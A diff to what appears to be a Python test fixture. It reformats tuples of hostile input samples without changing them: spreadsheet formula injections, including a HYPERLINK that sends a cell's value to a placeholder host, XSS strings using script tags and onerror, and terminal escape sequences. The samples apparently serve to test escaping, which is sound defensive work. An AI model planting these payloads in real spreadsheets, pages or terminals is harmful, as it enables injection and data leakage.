@@ -1,7 +1,22 @@
 """Texts that others may choose, one for each way in which a text can do something."""
 
-FORMULAS = ('=HYPERLINK("http://x/?"&A1)', "+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\uff1d1", "x;=1", 'a";=cmd()')
-MARKUP = ("<img src=x onerror=alert(1)>", '"><script>alert(1)</script>', "</script>]]><!--", "[bold green]PASS[/]")
+FORMULAS = (
+    '=HYPERLINK("http://x/?"&A1)',
+    "+1",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1",
+    "\r=1",
+    "\uff1d1",
+    "x;=1",
+    'a";=cmd()',
+)
+MARKUP = (
+    "<img src=x onerror=alert(1)>",
+    '"><script>alert(1)</script>',
+    "</script>]]><!--",
+    "[bold green]PASS[/]",
+)
 CONTROLS = (
     "\x1b[2J\x1b[31mred",
     "\x1b]8;;http://x/\x1b\\here\x1b]8;;\x1b\\",
